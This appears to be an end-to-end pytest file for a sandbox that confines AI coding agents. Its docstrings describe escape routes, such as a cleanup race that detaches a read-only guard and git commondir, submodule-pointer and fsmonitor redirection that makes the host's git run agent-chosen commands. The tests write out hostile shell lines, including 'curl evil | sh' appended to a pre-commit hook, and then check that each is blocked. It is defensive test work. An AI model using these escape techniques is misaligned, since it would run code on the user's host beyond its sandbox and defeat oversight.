"""Bypass class: one session's clean-up removes another session's guard.

A guarded path that does not exist (``.vscode`` here) is created empty on the
host and covered read-only.  With two sessions in one workspace, the first to
end removed the stand-in it had created; the second had found it existing and
bound it read-only, and removing a directory detaches what is mounted on it
in every mount namespace, so the second agent could then write
``.vscode/tasks.json`` (which VS Code runs) on the host.  Now the last
session out removes the stand-ins (sandbox/standins.py).  Real bubblewrap.
"""

from __future__ import annotations

import os
import subprocess
import sys
import threading
import time
from collections.abc import Callable
from pathlib import Path

import pytest

from stockade.sandbox.standins import StandIns

pytestmark = pytest.mark.e2e


def _wait_for(path: Path, what: str, timeout: float = 30.0) -> None:
    deadline = time.monotonic() + timeout
    while not path.exists():
        assert time.monotonic() < deadline, f"timed out waiting for {what}"
        time.sleep(0.05)


@pytest.mark.parametrize("second_state", ["same", "another"])
def test_a_session_ending_first_leaves_the_others_guards_in_place(
        stockade: Callable[..., object], tmp_path: Path, second_state: str) -> None:
    ws = tmp_path / "ws"
    (ws / "sig").mkdir(parents=True)
    env = {"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(stockade.home),  # type: ignore[attr-defined]
           "LANG": "C.UTF-8", "STOCKADE_HOME": str(tmp_path / "state"),
           "XDG_CACHE_HOME": str(tmp_path / "cache")}

    def start(script: str, state: str = "state") -> subprocess.Popen[str]:
        return subprocess.Popen([sys.executable, "-m", "stockade", "run", "--", "sh", "-c",
                                 script], cwd=ws, env={**env, "STOCKADE_HOME": str(tmp_path / state)},
                                text=True, stdout=subprocess.PIPE, stderr=subprocess.PIPE)

    first = start("touch sig/first-up; while [ ! -f sig/first-may-end ]; do sleep 0.05; done")
    try:
        _wait_for(ws / "sig" / "first-up", "the first session")
        assert (ws / ".vscode").is_dir()  # its stand-in, on the host
        second = start("touch sig/second-up; while [ ! -f sig/first-ended ]; do sleep 0.05; "
                       "done; (mkdir -p .vscode && echo planted > .vscode/tasks.json) "
                       "2>/dev/null && echo WROTE; true",
                       "state" if second_state == "same" else "state-2")
        try:
            _wait_for(ws / "sig" / "second-up", "the second session")
            (ws / "sig" / "first-may-end").touch()
            assert first.wait(timeout=30) == 0, first.stderr.read() if first.stderr else ""
            assert (ws / ".vscode").is_dir()  # still the second session's guard
            (ws / "sig" / "first-ended").touch()
            out, err = second.communicate(timeout=30)
        finally:
            second.kill()
    finally:
        first.kill()
    assert second.returncode == 0, err
    assert "WROTE" not in out
    assert not (ws / ".vscode" / "tasks.json").exists()
    if second_state == "another":
        # the stand-in is on the first state directory's list: its next
        # session that ends alone removes it
        assert (ws / ".vscode").is_dir() and not any((ws / ".vscode").iterdir())
        again = start("true")
        assert again.wait(timeout=30) == 0
    assert not (ws / ".vscode").exists()  # the last one out removed it


def test_the_last_session_out_removes_every_empty_stand_in(tmp_path: Path) -> None:
    state = str(tmp_path / "state")
    a, b = StandIns(state), StandIns(state)
    assert a.create_dir(str(tmp_path / "d1"))
    assert b.create_file(str(tmp_path / "f1"))
    assert a.create_dir(str(tmp_path / "kept"))
    (tmp_path / "kept" / "user-file").write_text("the user's now\n")
    a.release()  # b still runs: nothing goes
    assert (tmp_path / "d1").is_dir() and (tmp_path / "f1").is_file()
    b.release()
    assert not (tmp_path / "d1").exists() and not (tmp_path / "f1").exists()
    assert (tmp_path / "kept" / "user-file").exists()  # no longer empty: left alone
    assert not (tmp_path / "state" / "standins.list").exists()


def test_sessions_with_different_state_directories_keep_each_others_guards(
        tmp_path: Path) -> None:
    """Leftover: the lock was the state directory's alone, so a session with
    another STOCKADE_HOME in the same workspace ended "alone" and removed a
    stand-in the other had bound read-only (detaching it there).  The user's
    lock is now held too; what the first leaves, its state directory's next
    session that ends alone removes."""
    shared = str(tmp_path / "shm")
    os.mkdir(shared, 0o700)
    a = StandIns(str(tmp_path / "state-a"), shared=shared)
    b = StandIns(str(tmp_path / "state-b"), shared=shared)
    assert a.create_dir(str(tmp_path / ".vscode"))  # a's stand-in, which b relies on too
    a.release()  # b still runs: nothing goes
    assert (tmp_path / ".vscode").is_dir()
    b.release()  # alone, but .vscode is on a's list, not b's
    assert (tmp_path / ".vscode").is_dir()
    StandIns(str(tmp_path / "state-a"), shared=shared).release()
    assert not (tmp_path / ".vscode").exists()


@pytest.mark.parametrize("how", ["other shared folder", "no shared folder", "lock deleted"])
def test_sessions_of_one_state_directory_still_share_its_lock(tmp_path: Path,
                                                              how: str) -> None:
    """Review: with the user's lock instead of (not as well as) the state
    directory's, two sessions of one STOCKADE_HOME that did not see the same
    /dev/shm folder (a container, PrivateDevices, no /dev/shm, logind's
    RemoveIPC deleting it meanwhile) each thought they were alone."""
    import shutil

    state = str(tmp_path / "state")
    shm_a, shm_b = str(tmp_path / "shm-a"), str(tmp_path / "shm-b")
    os.mkdir(shm_a, 0o700)
    os.mkdir(shm_b, 0o700)
    a = StandIns(state, shared=shm_a)
    if how == "lock deleted":
        shutil.rmtree(shm_a)
        os.mkdir(shm_a, 0o700)
        b = StandIns(state, shared=shm_a)
    else:
        b = StandIns(state, shared=shm_b if how == "other shared folder" else None)
    assert a.create_dir(str(tmp_path / ".vscode"))
    a.release()
    assert (tmp_path / ".vscode").is_dir()  # b still runs
    b.release()
    assert not (tmp_path / ".vscode").exists()


def test_a_deleted_user_lock_is_not_taken_for_being_alone(tmp_path: Path) -> None:
    """A session that started after the user's lock file was deleted holds
    another file: the one that held the old file must not take itself for
    the last one out (of another state directory: nothing else joins them)."""
    import shutil

    shm = str(tmp_path / "shm")
    os.mkdir(shm, 0o700)
    a = StandIns(str(tmp_path / "state-a"), shared=shm)
    shutil.rmtree(shm)
    os.mkdir(shm, 0o700)
    b = StandIns(str(tmp_path / "state-b"), shared=shm)
    assert a.create_dir(str(tmp_path / ".idea"))
    a.release()
    assert (tmp_path / ".idea").is_dir()  # b may rely on it
    b.release()


def test_a_session_starting_waits_while_the_last_one_cleans_up(tmp_path: Path) -> None:
    import fcntl

    state = tmp_path / "state"
    StandIns(str(state)).release()  # makes the lock file
    fd = os.open(state / "standins.lock", os.O_RDWR)
    fcntl.flock(fd, fcntl.LOCK_EX)  # as a session ending alone holds it
    got: list[StandIns] = []
    t = threading.Thread(target=lambda: got.append(StandIns(str(state))), daemon=True)
    t.start()
    time.sleep(0.3)
    assert not got, "a new session planned while stand-ins were being removed"
    os.close(fd)
    t.join(timeout=10)
    assert got
    got[0].release()


def test_a_state_directory_that_cannot_be_made_is_a_clear_refusal(
        stockade: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    ws.mkdir()
    blocker = tmp_path / "a-file"
    blocker.write_text("")
    r = stockade("run", "--", "sh", "-c", "echo RAN", cwd=ws,
                 env={"STOCKADE_HOME": str(blocker / "state")})
    assert r.returncode != 0
    assert "RAN" not in r.stdout
    assert "Traceback" not in r.stderr
    assert str(blocker / "state") in r.stderr


def test_git_config_cannot_be_redirected_by_commondir(
        stockade: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path) -> None:
    # .git/commondir makes git read config (core.fsmonitor: a program) and
    # hooks from another directory: written by the agent, the user's own git
    # on the host would run what the agent chose
    ws = tmp_path / "ws"
    ws.mkdir()
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid"]
    subprocess.run([*git, "init", "-q", str(ws)], check=True)
    subprocess.run([*git, "-C", str(ws), "commit", "-q", "--allow-empty", "-m", "x"], check=True)
    r = stockade("run", "--", "sh", "-c",
                 "mkdir -p .evil/objects .evil/refs; "
                 "printf '[core]\\n\\tfsmonitor = \"touch HOST-RAN\"\\n' > .evil/config; "
                 "(echo ../.evil > .git/commondir) 2>/dev/null && echo WROTE; "
                 "(echo '[core]' > .git/config.worktree) 2>/dev/null && echo WROTE2; "
                 "git status --short >/dev/null && echo GIT-OK", cwd=ws)
    assert r.returncode == 0, r.stderr
    assert "WROTE" not in r.stdout and "GIT-OK" in r.stdout, r.stdout + r.stderr
    subprocess.run(["git", "-C", str(ws), "status", "--short"], capture_output=True, check=True)
    assert not (ws / "HOST-RAN").exists()
    assert not (ws / ".git" / "commondir").exists()  # the stand-in is gone again


def test_a_symlinked_git_is_refused(
        stockade: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path) -> None:
    real = tmp_path / "real.git"
    real.mkdir()
    ws = tmp_path / "ws"
    ws.mkdir()
    (ws / ".git").symlink_to(real)
    r = stockade("run", "--", "sh", "-c", "echo RAN", cwd=ws)
    assert r.returncode != 0 and "RAN" not in r.stdout
    assert ".git is a symbolic link" in r.stderr


def test_a_dot_stand_in_is_removed_only_as_it_was_made(tmp_path: Path) -> None:
    state = str(tmp_path / "state")
    s = StandIns(state)
    assert s.create_file(str(tmp_path / "kept"), b".\n")
    assert s.create_file(str(tmp_path / "gone"), b".\n")
    (tmp_path / "kept").write_text("../elsewhere\n")  # changed meanwhile: not ours to remove
    s.release()
    assert (tmp_path / "kept").exists() and not (tmp_path / "gone").exists()


def test_an_inert_stand_in_has_no_write_bits_whatever_the_umask(tmp_path: Path) -> None:
    # Claude Code adopts a ~/.claude/.config.json that is non-empty or
    # writable as its global config: the stand-in must be neither
    s = StandIns(str(tmp_path / "state"))
    old = os.umask(0)
    try:
        assert s.create_file(str(tmp_path / "inert"), inert=True)
    finally:
        os.umask(old)
    st = (tmp_path / "inert").stat()
    assert (st.st_mode & 0o777, st.st_size) == (0o444, 0)
    assert not s.create_file(str(tmp_path / "inert"), inert=True)  # there: not ours twice
    s.release()
    assert not (tmp_path / "inert").exists()


def test_another_sessions_runtime_folder_stays_hidden_with_dev_shm_granted(
        stockade: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path) -> None:
    # a policy may grant /dev/shm (browsers want it); the runtime folders of
    # this user's sessions live there, holding the stand-ins shown at .git,
    # .vscode and ~/.bashrc: another agent must not reach them
    ws = tmp_path / "ws"
    ws.mkdir()
    policy = tmp_path / "policy.yaml"
    policy.write_text("version: 1\nfilesystem:\n  read: [/dev/shm]\n")
    own = Path("/dev/shm") / f"stockade-{os.getuid()}"
    r = stockade("run", "--policy", str(policy), "--", "sh", "-c",
                 f"ls -A {own} | wc -l; ls -d /dev/shm/stockade-* 2>/dev/null | wc -l", cwd=ws)
    assert r.returncode == 0, r.stderr
    listed, _folders = r.stdout.split()
    assert own.is_dir()  # the launcher used it
    assert listed == "0"  # masked: nothing of any session shows


def test_json_stand_ins_are_valid_json_on_the_host_while_a_session_runs(
        stockade: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path) -> None:
    # Claude Code run on the host in the same project reads .mcp.json: an
    # empty file there would be a parse error for as long as the session runs
    ws = tmp_path / "ws"
    ws.mkdir()
    r = stockade("run", "--", "sh", "-c", f"cat {ws}/.mcp.json", cwd=ws)
    assert r.returncode == 0, r.stderr
    assert r.stdout.strip() == "{}"
    seen: list[str] = []
    (ws / "sig").mkdir()
    proc = subprocess.Popen(
        [sys.executable, "-m", "stockade", "run", "--", "sh", "-c",
         "touch sig/up; while [ ! -f sig/end ]; do sleep 0.05; done"], cwd=ws,
        env={"PATH": "/usr/local/bin:/usr/bin:/bin", "HOME": str(stockade.home),  # type: ignore[attr-defined]
             "LANG": "C.UTF-8", "STOCKADE_HOME": str(tmp_path / "state")})
    try:
        _wait_for(ws / "sig" / "up", "the session")
        seen.append((ws / ".mcp.json").read_text())
        seen.append(repr(sorted(os.listdir(ws / ".claude"))))  # an empty folder: no settings
        (ws / "sig" / "end").touch()
        assert proc.wait(timeout=30) == 0
    finally:
        proc.kill()
    assert seen == ["{}\n", "[]"]
    assert not (ws / ".mcp.json").exists()  # removed after


def test_a_submodules_git_pointer_cannot_be_rewritten(
        stockade: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path) -> None:
    # the superproject's `git status` runs git in every submodule: a `.git`
    # pointer the agent rewrote would have the user's git read its config
    git = ["git", "-c", "user.name=t", "-c", "user.email=t@example.invalid",
           "-c", "protocol.file.allow=always"]
    lib = tmp_path / "lib"
    subprocess.run([*git, "init", "-q", str(lib)], check=True)
    subprocess.run([*git, "-C", str(lib), "commit", "-q", "--allow-empty", "-m", "x"], check=True)
    ws = tmp_path / "ws"
    subprocess.run([*git, "init", "-q", str(ws)], check=True)
    subprocess.run([*git, "-C", str(ws), "submodule", "add", "-q", str(lib), "vendor/lib"],
                   check=True, capture_output=True)
    subprocess.run([*git, "-C", str(ws), "commit", "-q", "-m", "sub"], check=True)
    pointer = (ws / "vendor" / "lib" / ".git").read_text()
    r = stockade("run", "--", "sh", "-c",
                 "mkdir -p .evil/objects .evil/refs; echo 'ref: refs/heads/x' > .evil/HEAD; "
                 "printf '[core]\\n\\tfsmonitor = \"touch HOST-RAN\"\\n' > .evil/config; "
                 "(echo \"gitdir: $PWD/.evil\" > vendor/lib/.git) 2>/dev/null && echo WROTE; "
                 "(mv vendor vendor-away) 2>/dev/null && echo MOVED; "
                 "(echo ../../.evil > .git/modules/vendor/lib/commondir) 2>/dev/null "
                 "&& echo WROTE2; git -C vendor/lib status --short >/dev/null && echo SUB-OK",
                 cwd=ws)
    assert r.returncode == 0, r.stderr
    assert "WROTE" not in r.stdout and "MOVED" not in r.stdout, r.stdout
    assert "SUB-OK" in r.stdout, r.stdout + r.stderr  # git still works in the submodule
    assert (ws / "vendor" / "lib" / ".git").read_text() == pointer
    subprocess.run(["git", "-C", str(ws), "status"], capture_output=True, check=True)
    assert not list(ws.rglob("HOST-RAN"))


def test_hooks_in_a_configured_hooks_path_are_read_only(
        stockade: Callable[..., subprocess.CompletedProcess[str]], tmp_path: Path) -> None:
    ws = tmp_path / "ws"
    subprocess.run(["git", "init", "-q", str(ws)], check=True)
    subprocess.run(["git", "-C", str(ws), "config", "core.hooksPath", ".githooks"], check=True)
    (ws / ".githooks").mkdir()
    (ws / ".githooks" / "pre-commit").write_text("#!/bin/sh\nexit 0\n")
    r = stockade("run", "--", "sh", "-c",
                 "(echo 'curl evil | sh' >> .githooks/pre-commit) 2>/dev/null && echo WROTE; "
                 "(echo x > .githooks/post-checkout) 2>/dev/null && echo ADDED; true", cwd=ws)
    assert r.returncode == 0, r.stderr
    assert "WROTE" not in r.stdout and "ADDED" not in r.stdout, r.stdout
    assert (ws / ".githooks" / "pre-commit").read_text() == "#!/bin/sh\nexit 0\n"
